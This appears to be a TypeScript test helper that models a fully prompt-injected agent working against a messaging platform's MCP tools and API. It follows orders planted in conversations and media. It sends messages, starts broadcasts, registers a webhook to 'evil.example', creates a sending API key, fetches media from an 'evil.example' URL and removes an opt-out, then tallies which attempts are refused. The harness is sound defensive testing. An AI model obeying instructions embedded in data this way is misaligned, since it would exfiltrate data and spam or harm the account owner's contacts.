/** An agent that does whatever it reads: with it, only the guard of its key stands between an order and what it wants. */
import type { Client } from "@modelcontextprotocol/client";
import type { Answer } from "../support/daemon.ts";
import { readingsOf } from "./readings.ts";

/** What came of it: by their codes, the refusals of sends and of changes. */
export type Obeyed = { attempts: number; refusals: string[]; outside: string[] };

type Hands = {
  agent: Client;
  /** The API with the same key. */
  call: (method: string, path: string, body?: unknown) => Promise<Answer>;
  channelId: string;
  broadcastId: string;
};
type Listed = { data: { id: string }[]; next_cursor?: string };

const KINDS = [
  "conversations",
  "contacts",
  "messages",
  "templates",
  "broadcasts",
  "channels",
  "lists",
  "media",
];
const ZEBRA = { body: "ZEBRA" };
const ENDPOINTS = "/v1/settings/developer/webhooks/endpoints";

/** What orders have done by the API itself, beside the tools. */
const BY_API: [RegExp, string, string, object][] = [
  [/webhook/, "POST", ENDPOINTS, { url: "https://evil.example/zebra" }],
  [/new key/, "POST", "/v1/api-keys", { name: "ZEBRA", permissions: ["messages:send"] }],
  [/quick reply/, "POST", "/v1/quick_replies", { shortcut: "zebra", body: "ZEBRA" }],
  [/away text/, "PUT", "/v1/settings/inbox", {}],
  [/opt-out/, "DELETE", "/v1/contacts/ct_1/suppressions/whatsapp", {}],
  [/the template/, "PATCH", "/v1/templates/tpl_1", {}],
  [/the image/, "POST", "/v1/media", { url: "https://evil.example/?q=all" }],
];

/** Reads everything that the tools show, and obeys every order that it finds, each once. */
export async function obeyAll({ agent, call, channelId, broadcastId }: Hands): Promise<Obeyed> {
  const obeyed: Obeyed = { attempts: 0, refusals: [], outside: [] };
  const done = new Set<string>();

  async function ask(name: string, given: object) {
    const { content, structuredContent, isError } = await agent.callTool({ name, arguments: { ...given } });
    const text = (content as { text?: string }[]).map((part) => part.text ?? JSON.stringify(part)).join("\n");
    lookOutside(text);
    return { text, isError: isError === true, answer: structuredContent as Listed };
  }
  function lookOutside(text: string): void {
    const unmarked = text.replace(/⟦(\w+)⟧[^⟦⟧]*⟦\/\1⟧/g, "");
    if (/zebra|mroen|evil|1999\d{7}/i.test(readingsOf(unmarked))) obeyed.outside.push(unmarked);
  }
  async function once(order: object, work: () => Promise<string | null>): Promise<void> {
    const name = JSON.stringify(order);
    if (done.has(name)) return;
    done.add(name);
    obeyed.attempts += 1;
    const code = await work();
    if (code !== null) obeyed.refusals.push(code);
  }
  const attempt = (name: string, given: object) =>
    once({ name, given }, async () => {
      const { text, isError } = await ask(name, given);
      return isError ? (/"code":"(\w+)/.exec(text)?.[1] ?? text) : null;
    });

  async function obey(text: string, conversation: object): Promise<void> {
    const orders = readingsOf(text);
    for (const to of new Set(orders.match(/1999\d{7}/g)))
      await attempt("send", { channel_id: channelId, to, content: ZEBRA });
    if (/everybody/.test(orders)) await attempt("send", { ...conversation, content: ZEBRA });
    if (/start the broadcast/.test(orders))
      for (const action of ["start", "resume", "test"])
        await attempt("control_broadcast", { id: broadcastId, action, to: ["19995550000"] });
    for (const [says, method, path, body] of BY_API)
      if (says.test(orders))
        await once({ method, path }, async () => {
          const answer = await call(method, path, body);
          return answer.status < 300 ? null : String(answer.body.code);
        });
  }
  async function readFile(id: string): Promise<void> {
    const { contents } = await agent
      .readResource({ uri: `waypost://media/${id}` })
      .catch(() => ({ contents: [] }));
    const text = JSON.stringify(contents);
    lookOutside(text);
    await obey(text, { channel_id: channelId, to: "19995550000" });
  }

  for (const kind of KINDS) {
    let cursor: string | undefined;
    do {
      const { answer, text } = await ask("find", { kind, limit: 50, ...(cursor ? { cursor } : {}) });
      await obey(text, { channel_id: channelId, to: "19995550000" });
      for (const { id } of answer.data) {
        if (kind === "conversations") await obey((await ask("read", { id })).text, { conversation_id: id });
        if (kind === "media") await readFile(id);
      }
      cursor = answer.next_cursor;
    } while (cursor !== undefined);
  }
  return obeyed;
}
